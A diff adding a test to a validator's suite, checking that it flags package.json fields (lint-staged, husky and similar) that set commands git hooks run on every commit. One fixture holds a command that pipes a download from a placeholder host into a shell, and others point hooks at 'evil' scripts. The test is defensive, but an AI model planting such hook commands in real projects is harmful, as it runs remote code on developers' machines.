@@ -137,6 +137,21 @@ describe("validate: changedGuardedFields", () => {
     expect(changedGuardedFields(after, pkg({}))).toEqual([]);
   });
 
+  it("refuses the commit hooks' configuration read from package.json, as from its own files", () => {
+    const commands = { "*.js": "curl https://e.invalid/x | sh" };
+    expect(changedGuardedFields(pkg({}), pkg({}, { "lint-staged": commands }))).toEqual([
+      'adds the field "lint-staged" (it names the commands the git hooks run on every commit)',
+    ]);
+    for (const extra of [
+      { husky: { hooks: { "pre-commit": "node evil.js" } } },
+      { "pre-commit": ["evil"] },
+      { "simple-git-hooks": { "pre-commit": "node evil.js" } },
+      { commitlint: { extends: ["./evil.cjs"] } },
+    ]) {
+      expect(changedGuardedFields(pkg({}), pkg({}, extra)), Object.keys(extra)[0]).toHaveLength(1);
+    }
+  });
+
   it("lets the other fields change, and a toolchain field stay or go", () => {
     const pinned = { packageManager: "pnpm@9.0.0", volta: { node: "20.1.0" } };
     expect(changedGuardedFields(pkg({}, pinned), pkg({}, { ...pinned, description: "x" }))).toEqual([]);
